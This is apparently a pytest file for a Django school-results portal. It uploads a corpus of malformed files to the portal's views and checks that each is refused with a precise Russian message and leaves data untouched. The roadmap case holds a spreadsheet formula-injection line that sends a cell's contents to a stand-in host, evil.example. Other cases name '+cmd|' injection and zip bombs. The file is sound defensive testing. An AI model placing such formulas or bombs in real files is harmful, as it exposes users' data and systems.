"""The bad-input corpus (tests/files/bad, written by make_bad_files.py) through the real upload views.

Every file is posted over HTTP to the view its kind of upload goes to — results (ВПР ФИС ОКО, the regional ЕГЭ form,
the portal templates), ОИП/ИСБШ lists, the school register, roadmaps — as the role that uploads it. For each file:
the precise Russian message (with row and column where the problem has one) is the one in ``EXPECTED``, it is shown
on the page, the answer is never a 500, and the database is unchanged: row counts and a checksum of every table of
the portal's apps (a result upload keeps its original as a rejected ``ResultUpload``, by design, and nothing else).
A file in the folder without an entry here fails ``test_every_file_has_an_expectation``.

tests/indicators/test_upload_bad_input.py builds its cases in memory; this corpus covers the other kinds of upload
and the classes missing there (encrypted and .xls files, formula injection, other schools, wrong years, zip bombs
on every path, merged cells, .docx without a table).
"""

from __future__ import annotations

import hashlib
import time
import tracemalloc
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from indicators.models import IndexValue, ResultUpload, Subject
from portal.choices import Role
from roadmap import services as roadmap_services
from schools.models import AcademicYear, SchoolYearProfile

from .factories import MunicipalityFactory, SchoolFactory, make_user

pytestmark = pytest.mark.django_db

CORPUS = Path(__file__).resolve().parent / "files" / "bad"
NOT_CORPUS = {"make_bad_files.py", "README.md"}
MUNICIPALITY = "Тутаевский муниципальный район"

RESULTS, INDEX, REGISTER, ROADMAP = "results", "index", "register", "roadmap"
ERROR, WARNING, FORM, AS_TEXT = "error", "warning", "form", "as text"
FILE = None  # a problem of the file as a whole: no row


@dataclass(frozen=True)
class Expect:
    target: str              # which upload: RESULTS, INDEX, REGISTER, ROADMAP
    bad_class: str           # the DESIGN §8 class, as the report names it
    message: str             # a fragment of the Russian message
    row: int | None = FILE   # Excel row / Word table row of the problem
    column: str = ""         # the column header as the file writes it ("" for the file as a whole)
    level: str = ERROR       # ERROR blocks the import, WARNING needs a confirmation, FORM: the upload form refuses,
    #                          AS_TEXT: no problem, the value is kept as plain text (the preview shows ``message``)
    role: str = Role.STAFF
    post: dict = field(default_factory=dict)      # form fields besides the file
    settings: dict = field(default_factory=dict)  # settings for this upload


NOT_XLSX = "это не файл Excel .xlsx (возможно, CSV или PDF с изменённым расширением)"
BROKEN_XLSX = "файл .xlsx повреждён и не открывается"
ENCRYPTED_XLSX = "файл Excel защищён паролем (зашифрован)"
OLD_XLS = "файл в старом формате Excel 97–2003 (.xls)"
EMPTY = "Отправленный файл пуст."
WRONG_EXTENSION = "Нужен файл Excel с расширением .xlsx."
FORMULA = "похоже на формулу Excel (начинается с «{}»): формулы и ссылки в ячейках не принимаются"
BOMB = "похож на «zip-бомбу»: часть «{}» после распаковки занимает {} МБ"
NO_ROADMAP = "не найдена таблица дорожной карты: нужна строка заголовков со столбцом «Мероприятие»"
VPR_YEAR = {"academic_year": "2023"}  # the ВПР files are of spring 2024: 2023/2024


def _math() -> int:
    return Subject.objects.get(code="math").pk

EXPECTED: dict[str, Expect] = {
    # --- results: ВПР ФИС ОКО export, regional ЕГЭ form, the portal templates (indicators:upload_create)
    "results_pdf_renamed.xlsx": Expect(RESULTS, "не таблица: PDF с расширением .xlsx", NOT_XLSX),
    "results_csv_renamed.xlsx": Expect(RESULTS, "не таблица: CSV с расширением .xlsx", NOT_XLSX),
    "results_docx_renamed.xlsx": Expect(RESULTS, "не таблица: документ Word с расширением .xlsx",
                                        "это документ Word, а не книга Excel: нужен файл .xlsx"),
    "results_empty.xlsx": Expect(RESULTS, "пустой файл", EMPTY, level=FORM),
    "results_truncated.xlsx": Expect(RESULTS, "обрезанный zip", BROKEN_XLSX),
    "results_old_format.xls": Expect(RESULTS, ".xls вместо .xlsx", WRONG_EXTENSION, level=FORM),
    "results_xls_renamed.xlsx": Expect(RESULTS, ".xls с расширением .xlsx", OLD_XLS),
    "results_encrypted.xlsx": Expect(RESULTS, "зашифрованная книга", ENCRYPTED_XLSX),
    "results_empty_workbook.xlsx": Expect(RESULTS, "пустая книга", "в книге нет ни одного заполненного листа"),
    "results_unknown_layout.xlsx": Expect(RESULTS, "неизвестный лист / формат", "не удалось определить формат файла"),
    "results_ege_missing_column.xlsx": Expect(RESULTS, "нет обязательного столбца", "нет обязательного столбца", 1,
                                              "Участников"),
    "results_oge_merged_header.xlsx": Expect(RESULTS, "объединённые ячейки заголовка", "нет обязательного столбца",
                                             1, "Отметка «3»"),
    "results_oge_duplicate_rows.xlsx": Expect(RESULTS, "повтор строк",
                                              "результат этой школы по предмету «Математика» уже указан в строке 2",
                                              3, "Предмет"),
    "results_ege_text_in_number.xlsx": Expect(RESULTS, "текст в числовой ячейке",
                                              "ожидается целое число, получено «двадцать»", 2, "Участников"),
    "results_ege_negative_count.xlsx": Expect(RESULTS, "отрицательное количество", "число -3 меньше допустимого 0",
                                              2, "Не преодолели минимум"),
    "results_ege_mean_above_max.xlsx": Expect(RESULTS, "балл выше максимума",
                                              "значение 140.0 вне допустимого диапазона 0–100", 2, "Средний балл"),
    "results_vpr_grade_out_of_range.xlsx": Expect(RESULTS, "класс вне 1–11", "число 14 больше допустимого 11", 2,
                                                  "Класс"),
    "results_ege_formula_injection.xlsx": Expect(RESULTS, "формула в ячейке (=HYPERLINK)", FORMULA.format("="), 2,
                                                 "Наименование ОО"),
    "results_passport_formula_injection.xlsx": Expect(RESULTS, "формула в ячейке (+cmd|)", FORMULA.format("+"), 2,
                                                      "Муниципалитет"),
    "results_vpr_formula_injection.xlsx": Expect(RESULTS, "формула в ячейке (@SUM)", FORMULA.format("@"), 9,
                                                 "Код участника", post=VPR_YEAR),
    "results_ege_unknown_school.xlsx": Expect(RESULTS, "школы нет в реестре",
                                              "ни одна школа файла не найдена в реестре портала", 2, "Школа"),
    "results_oge_other_school.xlsx": Expect(RESULTS, "чужая школа у директора", "строка относится к другой школе",
                                            3, "Школа", role=Role.PRINCIPAL),
    "results_vpr_other_school_login.xlsx": Expect(RESULTS, "чужая школа у директора (логин ОО)",
                                                  "в файле результаты ОО «edu761001», а в форме загрузки выбрана ОО "
                                                  "«edu761003»", 9, "ОО", role=Role.PRINCIPAL, post=VPR_YEAR),
    "results_vpr_score_above_max.xlsx": Expect(RESULTS, "балл за задание выше максимума",
                                               "балл за задание 2: 5 больше максимального 2", 10, "2 (2б)",
                                               post=VPR_YEAR),
    "results_vpr_mark_outside_2_5.xlsx": Expect(RESULTS, "отметка вне 2–5",
                                                "допустимы 2, 3, 4, 5 или «нет отметки», получено «7»", 11, "Отметка",
                                                post=VPR_YEAR),
    "results_vpr_duplicate_participant.xlsx": Expect(RESULTS, "повтор строк (код участника)",
                                                     "код участника «10001» повторяется: он уже есть в строке 8", 12,
                                                     "Код участника", post=VPR_YEAR),
    "results_vpr_protocol_journal_mark.xlsx": Expect(RESULTS, "отметка по журналу вне 2–5 (протокол ВПР)",
                                                     "отметка по журналу: допустимы 2, 3, 4, 5 или «нет отметки», "
                                                     "получено «1»", 4,
                                                     "Отметка за предыдущий триместр/ четверть/полугодие",
                                                     role=Role.PRINCIPAL, post={"grade": "5", "subject": _math}),
    "results_vpr_wrong_year.xlsx": Expect(RESULTS, "не тот учебный год",
                                          "в файле учебный год 2021/2022, а при загрузке выбран 2023/2024",
                                          post=VPR_YEAR),
    "results_ege_regional_wrong_year.xlsx": Expect(RESULTS, "не тот учебный год (региональная форма ЕГЭ)",
                                                   "Результатов ЕГЭ за 2024/2025 в файле нет. Результаты в файле есть "
                                                   "за: 2020/2021."),
    "results_ege_regional_text_in_count.xlsx": Expect(RESULTS, "текст в числовой ячейке (региональная форма ЕГЭ)",
                                                      "ожидается целое число, получено «н/д»", 6,
                                                      "Русский язык: не преодолен min порог",
                                                      post={"academic_year": "2022"}),
    "results_huge.xlsx": Expect(RESULTS, "файл больше допустимого", "допускается не больше 64 КБ", level=FORM,
                                settings={"PORTAL_UPLOAD_MAX_BYTES": 64 * 1024}),
    "results_zip_bomb.xlsx": Expect(RESULTS, "zip-бомба (объём после распаковки)",
                                    "после распаковки файл занимает 210 МБ, больше допустимых 200 МБ"),
    "results_lying_sizes_bomb.xlsx": Expect(RESULTS, "zip-бомба, занижающая размеры в оглавлении",
                                            "книга Excel повреждена и не читается"),
    "results_ege_nan_and_huge_numbers.xlsx": Expect(RESULTS, "огромное число и NaN в числовых ячейках (найдено "
                                                    "фаззингом: было 500)", "число «1e999999» слишком большое", 2,
                                                    "Участников"),
    # --- published ОИП / ИСБШ lists (indicators:index_import)
    "index_pdf_renamed.xlsx": Expect(INDEX, "не таблица: PDF с расширением .xlsx", NOT_XLSX),
    "index_truncated.xlsx": Expect(INDEX, "обрезанный zip", BROKEN_XLSX),
    "index_encrypted.xlsx": Expect(INDEX, "зашифрованная книга", ENCRYPTED_XLSX),
    "index_list.csv": Expect(INDEX, ".csv вместо .xlsx", WRONG_EXTENSION, level=FORM),
    "index_unknown_layout.xlsx": Expect(INDEX, "неизвестный формат", "не найден заголовок списка"),
    "index_table2_missing_columns.xlsx": Expect(INDEX, "нет обязательных столбцов",
                                                "в таблице типологизации нет столбцов: «Школы с высоким уровнем "
                                                "девиантности», «Школы с низким уровнем кадрового потенциала»", 3),
    "index_duplicate_rows.xlsx": Expect(INDEX, "повтор строк", "школа «МОУ СШ № 3» уже указана в строке 4", 6),
    "index_text_in_number.xlsx": Expect(INDEX, "текст в числовой ячейке", "ожидается число, получено «н/д»", 4,
                                        "ОИП"),
    "index_negative_value.xlsx": Expect(INDEX, "отрицательное значение",
                                        "отрицательное значение -6,78: индекс не может быть меньше нуля", 5, "ОИП"),
    "index_huge_number.xlsx": Expect(INDEX, "огромное число (найдено фаззингом: было 500)",
                                     "число 1e999999999 слишком большое для индекса", 5, "ОИП"),
    "index_table1_bad_flag_and_number.xlsx": Expect(INDEX, "текст в числовой ячейке (составляющая ОИП)",
                                                    "ожидается число, получено «121,83 (уточн.)»", 4,
                                                    "Достоверность"),
    "index_table2_bad_flag.xlsx": Expect(INDEX, "неверный признак (не «да»/«нет»)",
                                         "ожидается «да» или «нет», получено «возможно»", 4,
                                         "Сельские малокомплектные"),
    "index_formula_injection.xlsx": Expect(INDEX, "формула в ячейке (=HYPERLINK)", FORMULA.format("="), 5,
                                           "Наименование ОО"),
    "index_schools_not_in_register.xlsx": Expect(INDEX, "школ нет в реестре",
                                                 "ни одна школа списка не найдена в реестре"),
    "index_merged_cells.xlsx": Expect(INDEX, "объединённые ячейки заголовка", "не найден заголовок списка"),
    "index_zip_bomb.xlsx": Expect(INDEX, "zip-бомба (степень сжатия)",
                                  "файл " + BOMB.format("xl/worksheets/sheet1.xml", 110)),
    # --- the school register (schools:register_import)
    "register_text_renamed.xlsx": Expect(REGISTER, "не таблица: текст с расширением .xlsx", NOT_XLSX),
    "register_empty.xlsx": Expect(REGISTER, "пустой файл", EMPTY, level=FORM),
    "register_truncated.xlsx": Expect(REGISTER, "обрезанный zip", BROKEN_XLSX),
    "register_xls_renamed.xlsx": Expect(REGISTER, ".xls с расширением .xlsx", OLD_XLS),
    "register_csv.csv": Expect(REGISTER, ".csv вместо .xlsx", WRONG_EXTENSION, level=FORM),
    "register_unknown_layout.xlsx": Expect(REGISTER, "неизвестный лист / формат", "не найдена строка заголовков", 1),
    "register_missing_column.xlsx": Expect(REGISTER, "нет обязательного столбца", "нет обязательного столбца", 1,
                                           "Тип ОО"),
    "register_duplicate_rows.xlsx": Expect(REGISTER, "повтор строк", "эта школа уже указана в строке 2", 4,
                                           "Наименование ОО"),
    "register_wrong_types.xlsx": Expect(REGISTER, "неверный тип значения", "ожидается «да» или «нет», получено "
                                        "«возможно»", 2, "Малокомплектная"),
    "register_values_too_long.xlsx": Expect(REGISTER, "значение вне допустимой длины",
                                            "слишком длинное значение: 14 символов, допускается 10", 2, "ИНН"),
    "register_formula_injection.xlsx": Expect(REGISTER, "формула в ячейке (@SUM … cmd|)", FORMULA.format("@"), 3,
                                              "Краткое наименование"),
    "register_unknown_municipality.xlsx": Expect(REGISTER, "муниципалитета нет в реестре",
                                                 "муниципалитет «Несуществующий муниципальный район» не найден в "
                                                 "реестре", 2, "Муниципалитет"),
    "register_zip_bomb.xlsx": Expect(REGISTER, "zip-бомба (степень сжатия)",
                                     "файл " + BOMB.format("xl/worksheets/sheet1.xml", 120)),
    # --- roadmaps, .docx and .xlsx (roadmap:roadmap_import)
    "roadmap_pdf_renamed.docx": Expect(ROADMAP, "не документ: PDF с расширением .docx",
                                       "Файл не является документом Word (.docx)"),
    "roadmap_empty.docx": Expect(ROADMAP, "пустой файл", EMPTY, level=FORM),
    "roadmap_truncated.docx": Expect(ROADMAP, "обрезанный zip", "файл .docx повреждён и не открывается"),
    "roadmap_old_format.doc": Expect(ROADMAP, ".doc вместо .docx", "Загрузите документ Word (.docx) или книгу Excel "
                                                                   "(.xlsx).", level=FORM),
    "roadmap_doc_renamed.docx": Expect(ROADMAP, ".doc с расширением .docx",
                                       "файл в старом формате Word 97–2003 (.doc)"),
    "roadmap_encrypted.docx": Expect(ROADMAP, "зашифрованный документ", "документ Word защищён паролем (зашифрован)"),
    "roadmap_csv_renamed.xlsx": Expect(ROADMAP, "не таблица: CSV с расширением .xlsx", NOT_XLSX),
    "roadmap_no_table.docx": Expect(ROADMAP, "документ без таблицы", NO_ROADMAP),
    "roadmap_missing_columns.docx": Expect(ROADMAP, "таблица без нужных столбцов", NO_ROADMAP),
    "roadmap_unrecognised_numbers.docx": Expect(ROADMAP, "неверный тип значения (номер мероприятия)",
                                                "номер «первый-бис» не распознан", 4, "№ п/п"),
    "roadmap_duplicate_rows.docx": Expect(ROADMAP, "повтор строк (предупреждение)",
                                          "номер «1.1» повторяется (впервые — в строке 3)", 6, "№ п/п",
                                          level=WARNING),
    "roadmap_merged_cells.docx": Expect(ROADMAP, "хаос объединённых ячеек (Word)",
                                        "номер раздела «1» повторяется (впервые — в строке 2)", 3, "№ п/п",
                                        level=WARNING),
    "roadmap_merged_cells.xlsx": Expect(ROADMAP, "хаос объединённых ячеек (Excel)", NO_ROADMAP),
    # a roadmap is free text: «=HYPERLINK(…)» is kept as text and neutralised on export (tests/roadmap/test_exports:
    # the portal's own export of such an activity must import back unchanged), so it is no error here
    "roadmap_formula_injection.xlsx": Expect(ROADMAP, "формула в ячейке (=HYPERLINK): сохраняется как текст",
                                             '=HYPERLINK("http://evil.example/steal?d="&A1,"Открыть отчёт")',
                                             level=AS_TEXT),
    "roadmap_too_many_rows.xlsx": Expect(ROADMAP, "слишком много строк", "допускается не больше 2000"),
    "roadmap_zip_bomb.docx": Expect(ROADMAP, "zip-бомба (степень сжатия, Word)",
                                    "документ " + BOMB.format("word/document.xml", 150)),
    "roadmap_lying_sizes_bomb.docx": Expect(ROADMAP, "zip-бомба, занижающая размеры в оглавлении (Word)",
                                            "файл .docx повреждён: часть «word/document.xml» распаковывается в "
                                            "больший объём, чем заявлено в архиве (2 КБ)"),
    "roadmap_zip_bomb.xlsx": Expect(ROADMAP, "zip-бомба (объём после распаковки, Excel)",
                                    "после распаковки файл занимает 110 МБ, больше допустимых 100 МБ"),
}


# ---------------------------------------------------------------------------------------------------------------
# the portal the files are uploaded into


@pytest.fixture
def world(db):
    """The schools the corpus names, two years, the uploading users and some stored data to keep unchanged."""
    municipality = MunicipalityFactory(name=MUNICIPALITY, short_name="Тутаевский МР")
    own = SchoolFactory(municipality=municipality, fis_oko_login="edu761003", short_name="МОУ СШ № 3",
                        name="Муниципальное общеобразовательное учреждение средняя школа № 3 Тутаевского "
                             "муниципального района")
    other = SchoolFactory(municipality=municipality, fis_oko_login="edu761001", short_name="МОУ лицей № 1",
                          kind="lyceum", name="Муниципальное общеобразовательное учреждение лицей № 1 Тутаевского "
                                              "муниципального района")
    years = {start: AcademicYear.objects.get_or_create(start_year=start)[0] for start in (2023, 2024)}
    staff = make_user(Role.STAFF, username="corpus_staff")
    principal = make_user(Role.PRINCIPAL, school=own, username="corpus_principal")
    IndexValue.objects.create(school=own, academic_year=years[2024], kind="oip", source="imported", value="52.75",
                              components={"ЕГЭ": 119}, source_note="Таблица 3")
    SchoolYearProfile.objects.create(school=own, academic_year=years[2024], students=420, teachers=35)
    roadmap = roadmap_services.roadmap_create(user=staff, data=roadmap_services.RoadmapHeaderData(
        title="Дорожная карта 2024–2025", municipality=municipality, period_start=2024, period_end=2025,
        status="draft"))
    section = roadmap_services.section_create(roadmap=roadmap, user=staff, number="1", title="Общие мероприятия")
    roadmap_services.activity_create(section=section, user=staff, fields={
        "number": "1.1", "title": "Семинар", "deadline_text": "ежеквартально", "responsible_text": "УО"})
    return {"municipality": municipality, "own": own, "other": other, "staff": staff, "principal": principal,
            "years": years}


def _project_models():
    """The models of the portal's own apps (portal, schools, indicators, roadmap, monitoring, …)."""
    base = Path(django_settings.BASE_DIR).resolve()
    for config in apps.get_app_configs():
        if Path(config.path).resolve().parent == base:
            yield from config.get_models(include_auto_created=True)


def snapshot() -> dict[str, tuple[int, str]]:
    """Row count and a checksum of every row of every table of the portal's own apps (history tables too)."""
    state = {}
    for model in _project_models():
        if model is ResultUpload:
            continue
        rows = list(model._base_manager.order_by("pk").values_list())
        state[model._meta.label] = (len(rows), hashlib.sha256(repr(rows).encode()).hexdigest())
    return state


def uploads_state() -> dict[int, tuple]:
    return {row[0]: row for row in ResultUpload.objects.order_by("pk").values_list()}


# ---------------------------------------------------------------------------------------------------------------
# posting a file to its view and reading back what the user is told


@dataclass
class Outcome:
    status: int
    errors: list[tuple]       # (row, column, message)
    warnings: list[tuple]
    form_errors: list[str]
    page: str                 # the HTML the user sees with the messages


def _triples(items) -> list[tuple]:
    return [(e["row"], e["column"], e["message"]) if isinstance(e, dict) else (e.row, e.column, e.message)
            for e in items]


def post(client, world, name: str, expect: Expect) -> Outcome:
    upload = SimpleUploadedFile(name, (CORPUS / name).read_bytes())
    fields = {key: value() if callable(value) else value for key, value in expect.post.items()}
    if expect.target == RESULTS:
        data = {"kind": "auto", "academic_year": "2024", "file": upload, **fields}
        response = client.post(reverse("indicators:upload_create"), data)
        assert response.status_code in (200, 302), response.status_code
        if response.status_code == 200:
            return Outcome(200, [], [], _form_errors(response), response.content.decode())
        created = ResultUpload.objects.order_by("-pk").first()
        page = client.get(created.get_absolute_url())
        assert page.status_code == 200
        confirm = client.post(reverse("indicators:upload_confirm", args=[created.pk]))
        assert confirm.status_code == 302
        return Outcome(302, _triples(created.errors), _triples(created.warnings), [], page.content.decode())
    if expect.target == INDEX:
        data = {"academic_year": "2024", "file": upload, **fields}
        response = client.post(reverse("indicators:index_import"), data)
        report = response.context["report"]
    elif expect.target == REGISTER:
        response = client.post(reverse("schools:register_import"), {"file": upload, **fields})
        report = response.context["report"]
    else:
        data = {"municipality": world["municipality"].pk, "title": "Дорожная карта из файла", "period_start": 2025,
                "period_end": 2026, "status": "draft", "file": upload, **fields}
        response = client.post(reverse("roadmap:roadmap_import"), data)
        report = response.context.get("table")
        if report is not None:  # the preview: a file with errors is confirmed anyway (and must save nothing)
            action = "confirm" if report.errors else "cancel"
            finish = client.post(reverse("roadmap:roadmap_import"), {"action": action})
            assert finish.status_code == 302
    assert response.status_code in (200, 400), response.status_code
    if report is None:
        return Outcome(response.status_code, [], [], _form_errors(response), response.content.decode())
    return Outcome(response.status_code, _triples(report.errors), _triples(getattr(report, "warnings", [])),
                   _form_errors(response),
                   response.content.decode())


def _form_errors(response) -> list[str]:
    form = response.context.get("form") if response.context else None
    if form is None:
        return []
    return [message for messages in form.errors.values() for message in messages]


def _login(client, world, role: str):
    user = world["principal"] if role == Role.PRINCIPAL else world["staff"]
    client.force_login(user, backend="portal.auth.PortalModelBackend")


def _assert_message(outcome: Outcome, expect: Expect) -> None:
    if expect.level == FORM:
        assert any(expect.message in message for message in outcome.form_errors), outcome.form_errors
        return
    if expect.level == AS_TEXT:
        assert not outcome.errors, outcome.errors
        return
    items = outcome.errors if expect.level == ERROR else outcome.warnings
    if expect.level == WARNING:
        assert not outcome.errors, outcome.errors
    assert any(row == expect.row and column == expect.column and expect.message in message
               for row, column, message in items), items


# ---------------------------------------------------------------------------------------------------------------
# the tests


def test_every_file_has_an_expectation():
    files = {path.name for path in CORPUS.iterdir() if path.is_file() and path.name not in NOT_CORPUS}
    assert not files - set(EXPECTED), f"файлы без ожидаемого сообщения: {sorted(files - set(EXPECTED))}"
    assert not set(EXPECTED) - files, f"нет файлов: {sorted(set(EXPECTED) - files)} — запустите make_bad_files.py"
    assert len(files) >= 25
    assert {expect.target for expect in EXPECTED.values()} == {RESULTS, INDEX, REGISTER, ROADMAP}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_bad_file_is_refused_precisely_and_nothing_changes(client, world, settings, name):
    expect = EXPECTED[name]
    for key, value in expect.settings.items():
        setattr(settings, key, value)
    _login(client, world, expect.role)
    before, uploads_before = snapshot(), uploads_state()

    outcome = post(client, world, name, expect)

    assert outcome.status != 500
    _assert_message(outcome, expect)
    assert escape(expect.message) in outcome.page, "сообщение не показано на странице"
    assert snapshot() == before, "изменились данные портала"
    uploads_after = uploads_state()
    assert {pk: row for pk, row in uploads_after.items() if pk in uploads_before} == uploads_before
    new = [pk for pk in uploads_after if pk not in uploads_before]
    if expect.target == RESULTS and expect.level == ERROR:  # the original is kept, rejected, as DESIGN §5 wants
        assert len(new) == 1 and ResultUpload.objects.get(pk=new[0]).status == "rejected"
    else:
        assert not new


BOMBS = sorted(name for name in EXPECTED if "zip_bomb" in name)
LIARS = sorted(name for name in EXPECTED if "lying_sizes" in name)


@pytest.mark.parametrize("name", BOMBS)
def test_zip_bomb_is_refused_without_decompressing(client, world, monkeypatch, name):
    """The refusal reads the zip directory only: no part is opened, nothing is inflated, memory and time stay small
    (the bombs inflate to 110–210 MB)."""
    import zlib

    import docx
    import python_calamine

    calls = []

    def forbidden(what):
        def call(*args, **kwargs):
            calls.append(what)
            raise AssertionError(f"{what} до проверки архива")

        return call

    monkeypatch.setattr(zipfile.ZipFile, "open", forbidden("ZipFile.open"))
    monkeypatch.setattr(zlib, "decompressobj", forbidden("zlib.decompressobj"))
    monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_filelike", forbidden("calamine"))
    monkeypatch.setattr(docx, "Document", forbidden("python-docx"))
    _refused_quickly_in_flat_memory(client, world, name)
    assert not calls


@pytest.mark.parametrize("name", LIARS)
def test_bomb_lying_about_its_sizes_is_refused_with_flat_memory(client, world, name):
    """The directory declares 2 KB for a part that inflates to 40 MB: the readers stop at the declared size (calamine
    by itself, the .docx path by counting in 64 KB steps), so memory stays flat."""
    _refused_quickly_in_flat_memory(client, world, name)


def _refused_quickly_in_flat_memory(client, world, name) -> None:
    """Post the bomb as its expected user: its message, under 30 MB of Python memory at the peak and 10 s."""
    expect = EXPECTED[name]
    _login(client, world, expect.role)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        outcome = post(client, world, name, expect)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    _assert_message(outcome, expect)
    assert peak < 30 * 1024 * 1024, f"пик памяти {peak // 1024} КБ"
    assert elapsed < 10, f"{elapsed:.1f} с"


def test_rejected_file_creates_no_academic_year(client, world):
    """A ВПР export of spring 2024 uploaded without choosing a year: rejected (a task score above its maximum),
    and the year 2023/2024 it names is not created for it."""
    client.force_login(world["staff"], backend="portal.auth.PortalModelBackend")
    data = (CORPUS / "results_vpr_score_above_max.xlsx").read_bytes()
    AcademicYear.objects.filter(start_year=2023).delete()
    response = client.post(reverse("indicators:upload_create"), {
        "kind": "auto", "academic_year": "", "file": SimpleUploadedFile("vpr.xlsx", data)})
    assert response.status_code == 302
    upload = ResultUpload.objects.get()
    assert upload.status == "rejected" and upload.academic_year is None
    assert not AcademicYear.objects.filter(start_year=2023).exists()
